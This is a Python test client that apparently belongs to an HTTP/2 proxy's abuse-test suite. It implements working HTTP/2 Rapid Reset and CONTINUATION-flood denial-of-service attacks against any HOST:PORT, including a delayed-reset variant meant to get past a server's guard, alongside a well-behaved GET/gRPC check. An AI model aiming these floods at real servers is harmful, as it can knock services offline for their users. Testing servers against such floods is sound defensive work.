"""Hand-made HTTP/2 clients (the `h2` package, or raw frames where h2 would
refuse to misbehave) for the HTTP/2 proxy's abuse tests. h2c with prior
knowledge over a plain socket (`--tls`: TLS with ALPN h2, certificate not
verified). Prints ONE JSON line; exit 0 whatever the server did, non-zero
only for a bug here (a refused connection is `{"error": ...}`).

  python3 h2_abuse.py --target HOST:PORT [--tls [--server-name N]]
                      [--timeout S] SCENARIO [OPTIONS]

  rapid-reset --streams N [--authority A] [--path P] [--batch B]
              [--linger-ms L]
      Opens streams (HEADERS of a GET with END_STREAM) and RST_STREAMs each
      (CANCEL) at once, B streams per write, until N are sent or the server
      sends GOAWAY or closes; then waits up to L ms (default 1000) for a
      GOAWAY or close. Reports {"sent", "goaway", "goaway_error",
      "goaway_after", "last_stream_id", "closed", "closed_after", "stalled"
      (a write made no progress for --timeout s: the server stopped
      reading), "responses", "resets_received", "elapsed_ms"}; `*_after` is
      `sent` when that was first seen.

  continuation-flood --frames N [--authority A] [--path P] [--size B]
                     [--batch K] [--no-finish] [--linger-ms L]
      Raw frames after the preface and the SETTINGS exchange: a HEADERS
      frame (stream 1, END_STREAM, no END_HEADERS) and up to N CONTINUATION
      frames without END_HEADERS, each one whole header field of about B
      bytes (default 1024) of HPACK literal, K frames per write (default 4),
      until the server sends GOAWAY, RST_STREAM or a response, or closes.
      If it did none of these, a last CONTINUATION with END_HEADERS (one
      small field) ends the block (not with --no-finish), and the answer is
      awaited up to L ms (default 1000). The server's frames are read
      between writes, so `sent` and `*_after` are upper bounds of what it
      took in. Reports {"sent" (CONTINUATION frames written),
      "header_bytes", "goaway", "goaway_error", "goaway_after",
      "last_stream_id", "closed", "closed_after", "stalled", "rst_stream",
      "rst_after", "status", "status_after" and "headers" of a response,
      "finished", "elapsed_ms"}.

  ok [--authority A] [--path P] [--grpc [--message M]]
      One well-behaved GET (--grpc: a gRPC unary POST of M, "hello", path
      /ringmesh.test.Echo/Unary unless given). Reports {"ok", "status",
      "body_len", "headers", "reset", "goaway", "closed" (only when it
      was), "timed_out", "elapsed_ms"}, with --grpc also "grpc_status", "grpc_message" and "trailers"; `ok` is a complete
      response (and grpc-status 0 with --grpc).
"""

import argparse
import errno
import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from h2.errors import ErrorCodes
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
CLOSED_ERRNOS = {errno.EPIPE, errno.ECONNRESET, errno.ECONNABORTED, errno.ESHUTDOWN}


def error_name(code):
    try:
        return ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def ms_since(start):
    return round((time.monotonic() - start) * 1000)


def connect(args):
    host, _, port = args.target.rpartition(":")
    host = host.strip("[]")
    sock = socket.create_connection((host, int(port)), timeout=args.timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if args.tls:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname=args.server_name or host)
        if sock.selected_alpn_protocol() != "h2":
            raise ConnectionError(f"ALPN chose {sock.selected_alpn_protocol()!r}, not h2")
    return sock


def readable(sock, wait):
    if isinstance(sock, ssl.SSLSocket) and sock.pending():
        return True
    return bool(select.select([sock], [], [], wait)[0])


def receive(sock, wait):
    """Bytes read within `wait` s: b"" once closed, None when nothing came."""
    if not readable(sock, wait):
        return None
    try:
        return sock.recv(65536)
    except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
        return None
    except OSError as e:
        if e.errno in CLOSED_ERRNOS or isinstance(e, ssl.SSLError):
            return b""
        raise


class Stalled(Exception):
    """The server stopped reading: a write made no progress in --timeout."""


def send(sock, data):
    """False once the peer has closed (EPIPE/ECONNRESET); raises Stalled."""
    try:
        sock.sendall(data)
        return True
    except TimeoutError:
        raise Stalled from None
    except OSError as e:
        if e.errno in CLOSED_ERRNOS or isinstance(e, ssl.SSLError):
            return False
        raise


def client(args):
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    conn = h2.connection.H2Connection(config=config)
    conn.initiate_connection()
    return conn


def request_headers(args):
    return [
        (":method", "GET"),
        (":scheme", "https" if args.tls else "http"),
        (":path", args.path),
        (":authority", args.authority or args.target),
    ]


# ------------------------------------------------------------ rapid reset


def rapid_reset(args):
    """h2 encodes the requests; what the server sends is parsed here (h2
    raises on a response HEADERS that follows a GOAWAY in the same read,
    and the GOAWAY event is lost with it)."""
    sock = connect(args)
    conn = client(args)
    start = time.monotonic()
    out = {"sent": 0, "goaway": False, "goaway_error": None, "goaway_after": None,
           "last_stream_id": None, "closed": False, "closed_after": None,
           "stalled": False, "responses": 0, "resets_received": 0}
    frames = Frames()

    def closed():
        if not out["closed"]:
            out["closed"], out["closed_after"] = True, out["sent"]

    def absorb(data):
        if data is None:
            return
        if data == b"":
            closed()
            return
        for kind, flags, _, payload in frames.feed(data):
            reply = b""
            if kind == SETTINGS and not flags & ACK:
                reply = frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                reply = frame(PING, ACK, 0, payload)
            elif kind == GOAWAY and not out["goaway"]:
                out.update(goaway=True,
                           goaway_error=error_name(int.from_bytes(payload[4:8], "big")),
                           goaway_after=out["sent"],
                           last_stream_id=int.from_bytes(payload[:4], "big") & 0x7FFFFFFF)
            elif kind == HEADERS:
                out["responses"] += 1
            elif kind == RST_STREAM:
                out["resets_received"] += 1
            try:
                if reply and not out["closed"] and not send(sock, reply):
                    closed()
            except Stalled:
                out["stalled"] = True

    if not send(sock, conn.data_to_send()):
        closed()
    headers = request_headers(args)
    while (out["sent"] < args.streams and not out["goaway"] and not out["closed"]
           and not out["stalled"]):
        batch = min(args.batch, args.streams - out["sent"])
        sids = []
        for _ in range(batch):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            sids.append(sid)
            if not args.reset_after_ms:
                conn.reset_stream(sid, ErrorCodes.CANCEL)
        if args.reset_after_ms:
            # Let the server accept the streams (and start work on them)
            # before resetting them: the attack past a server's
            # pending-accept guard.
            try:
                if not send(sock, conn.data_to_send()):
                    closed()
                    break
            except Stalled:
                out["stalled"] = True
                break
            absorb(receive(sock, args.reset_after_ms / 1000))
            for sid in sids:
                try:
                    conn.reset_stream(sid, ErrorCodes.CANCEL)
                except Exception:
                    pass
        try:
            if not send(sock, conn.data_to_send()):
                closed()
                break
        except Stalled:
            out["stalled"] = True
            break
        out["sent"] += batch
        absorb(receive(sock, 0))
    linger_end = time.monotonic() + args.linger_ms / 1000
    while not out["closed"] and time.monotonic() < linger_end:
        absorb(receive(sock, max(0.0, linger_end - time.monotonic())))
    out["elapsed_ms"] = ms_since(start)
    sock.close()
    return out


# ------------------------------------------------------ continuation flood


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = [first_byte | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def literal(name, value):
    """A literal header field never indexed, new name, no Huffman."""
    return (hpack_int(0, 4, 0x10) + hpack_int(len(name), 7) + name
            + hpack_int(len(value), 7) + value)


class Frames:
    """Frames parsed from what the server sent."""

    def __init__(self):
        self.buffer = b""

    def feed(self, data):
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            yield kind, flags, stream, payload


def header_block(flags, payload):
    if flags & PADDED:
        pad = payload[0]
        payload = payload[1:len(payload) - pad]
    if flags & PRIORITY:
        payload = payload[5:]
    return payload


def continuation_flood(args):
    sock = connect(args)
    start = time.monotonic()
    out = {"sent": 0, "header_bytes": 0, "goaway": False, "goaway_error": None,
           "goaway_after": None, "closed": False, "closed_after": None, "stalled": False,
           "rst_stream": None, "status": None, "finished": False}
    frames = Frames()
    decoder = hpack.Decoder()
    response_block = [b""]
    settled = [False]  # the server's SETTINGS seen and acknowledged

    def closed():
        if not out["closed"]:
            out["closed"], out["closed_after"] = True, out["sent"]

    def absorb(data):
        if data is None:
            return
        if data == b"":
            closed()
            return
        for kind, flags, stream, payload in frames.feed(data):
            if kind == SETTINGS and not flags & ACK:
                settled[0] = True
                answer(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK and out["sent"] == 0 and settled[0]:
                answer(frame(PING, ACK, 0, payload))  # not inside our header block
            elif kind == GOAWAY and not out["goaway"]:
                code = int.from_bytes(payload[4:8], "big")
                out.update(goaway=True, goaway_error=error_name(code),
                           goaway_after=out["sent"],
                           last_stream_id=int.from_bytes(payload[:4], "big") & 0x7FFFFFFF)
            elif kind == RST_STREAM and out["rst_stream"] is None:
                out["rst_stream"] = error_name(int.from_bytes(payload[:4], "big"))
                out["rst_after"] = out["sent"]
            elif kind in (HEADERS, CONTINUATION) and stream == 1:
                response_block[0] += header_block(flags, payload) if kind == HEADERS else payload
                if flags & END_HEADERS:
                    try:
                        fields = dict(decoder.decode(response_block[0]))
                        out["status"] = int(fields.get(":status", 0)) or None
                        out["headers"] = {k: v for k, v in fields.items()
                                          if not k.startswith(":")}
                    except Exception as e:  # noqa: BLE001: report, do not crash
                        out["status_error"] = str(e)
                    response_block[0] = b""
                    if out["status"] is not None and "status_after" not in out:
                        out["status_after"] = out["sent"]

    def answer(data):
        try:
            if not out["closed"] and not send(sock, data):
                closed()
        except Stalled:
            out["stalled"] = True

    def reacted():
        return (out["closed"] or out["goaway"] or out["rst_stream"] or out["status"]
                or out["stalled"])

    if not send(sock, PREFACE + frame(SETTINGS, 0, 0)):
        closed()
    settings_end = time.monotonic() + min(args.timeout, 2.0)
    while not settled[0] and not out["closed"] and time.monotonic() < settings_end:
        absorb(receive(sock, max(0.0, settings_end - time.monotonic())))

    first = hpack.Encoder().encode(request_headers(args), huffman=False)
    if not reacted() and not send(sock, frame(HEADERS, END_STREAM, 1, first)):
        closed()
    value = b"v" * max(1, args.size - 16)
    batch = args.batch
    try:
        while out["sent"] < args.frames and not reacted():
            n = min(batch, args.frames - out["sent"])
            chunk = b"".join(
                frame(CONTINUATION, 0, 1, literal(b"x-flood-%d" % (out["sent"] + i), value))
                for i in range(n))
            if not send(sock, chunk):
                closed()
                break
            out["sent"] += n
            out["header_bytes"] += len(chunk) - 9 * n
            absorb(receive(sock, 0))
        if not reacted() and not args.no_finish:
            # Not empty: nginx 1.22 never answers a block ended by an empty
            # CONTINUATION.
            end = literal(b"x-flood-end", b"1")
            if send(sock, frame(CONTINUATION, END_HEADERS, 1, end)):
                out["finished"] = True
            else:
                closed()
    except Stalled:
        out["stalled"] = True
    linger_end = time.monotonic() + args.linger_ms / 1000
    while not out["closed"] and time.monotonic() < linger_end:
        absorb(receive(sock, max(0.0, linger_end - time.monotonic())))
        if out["status"] is not None and out["finished"]:
            break
    out["elapsed_ms"] = ms_since(start)
    sock.close()
    return out


# ------------------------------------------------------------------- ok


def well_behaved(args):
    sock = connect(args)
    conn = client(args)
    start = time.monotonic()
    out = {"ok": False, "status": None, "body_len": 0, "headers": {}, "reset": None,
           "goaway": None}
    headers = request_headers(args)
    body = b""
    if args.grpc:
        message = args.message.encode()
        body = b"\0" + len(message).to_bytes(4, "big") + message
        headers[0] = (":method", "POST")
        if args.path == "/":
            headers[2] = (":path", "/ringmesh.test.Echo/Unary")
        headers += [("content-type", "application/grpc"), ("te", "trailers")]
        out.update(grpc_status=None, grpc_message=None, trailers={})
    send(sock, conn.data_to_send())
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, headers, end_stream=not body)
    if body:
        conn.send_data(sid, body, end_stream=True)
    send(sock, conn.data_to_send())
    deadline = time.monotonic() + args.timeout
    done = False
    while not done and time.monotonic() < deadline:
        data = receive(sock, max(0.0, deadline - time.monotonic()))
        if data is None:
            continue
        if data == b"":
            out["closed"] = True
            break
        for e in conn.receive_data(data):
            if isinstance(e, h2.events.ResponseReceived) and e.stream_id == sid:
                out["headers"] = {k: v for k, v in e.headers if not k.startswith(":")}
                out["status"] = int(dict(e.headers)[":status"])
            elif isinstance(e, h2.events.TrailersReceived) and e.stream_id == sid:
                out["trailers"] = dict(e.headers)
            elif isinstance(e, h2.events.DataReceived) and e.stream_id == sid:
                out["body_len"] += len(e.data)
                conn.acknowledge_received_data(e.flow_controlled_length, sid)
            elif isinstance(e, h2.events.StreamEnded) and e.stream_id == sid:
                out["ok"] = out["status"] is not None
                done = True
            elif isinstance(e, h2.events.StreamReset) and e.stream_id == sid:
                out["reset"] = error_name(e.error_code)
                done = True
            elif isinstance(e, h2.events.ConnectionTerminated):
                out["goaway"] = error_name(e.error_code)
        send(sock, conn.data_to_send())
    out["timed_out"] = not done and not out.get("closed", False)
    if args.grpc:
        # A trailers-only response carries grpc-status in its one HEADERS.
        fields = {**out["headers"], **out["trailers"]}
        if "grpc-status" in fields:
            out["grpc_status"] = int(fields["grpc-status"])
            out["grpc_message"] = fields.get("grpc-message")
        out["ok"] = out["ok"] and out["grpc_status"] == 0
    out["elapsed_ms"] = ms_since(start)
    sock.close()
    return out


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--target", required=True, help="HOST:PORT")
    parser.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (no verification)")
    parser.add_argument("--server-name", help="SNI with --tls (default: the target's host)")
    parser.add_argument("--timeout", type=float, default=10.0, help="connect and read limit, s")
    sub = parser.add_subparsers(dest="scenario", required=True)

    def common(p, run):
        p.add_argument("--authority", help=":authority (default: the target)")
        p.add_argument("--path", default="/")
        p.set_defaults(run=run)

    p = sub.add_parser("rapid-reset")
    common(p, rapid_reset)
    p.add_argument("--streams", type=int, required=True)
    p.add_argument("--batch", type=int, default=50, help="streams per write")
    p.add_argument("--reset-after-ms", type=float, default=0,
                   help="send each batch's HEADERS, wait this long, then reset them")
    p.add_argument("--linger-ms", type=int, default=1000)
    p = sub.add_parser("continuation-flood")
    common(p, continuation_flood)
    p.add_argument("--frames", type=int, required=True)
    p.add_argument("--size", type=int, default=1024, help="bytes per CONTINUATION frame")
    p.add_argument("--batch", type=int, default=4, help="frames per write")
    p.add_argument("--no-finish", action="store_true")
    p.add_argument("--linger-ms", type=int, default=1000)
    p = sub.add_parser("ok")
    common(p, well_behaved)
    p.add_argument("--grpc", action="store_true",
                   help="a gRPC unary POST (path default /ringmesh.test.Echo/Unary)")
    p.add_argument("--message", default="hello", help="the --grpc request message")
    args = parser.parse_args()
    try:
        out = args.run(args)
    except OSError as e:  # refused, unreachable, timed out, TLS failure
        out = {"error": f"{type(e).__name__}: {e}"}
    out["scenario"] = args.scenario
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    sys.exit(main())
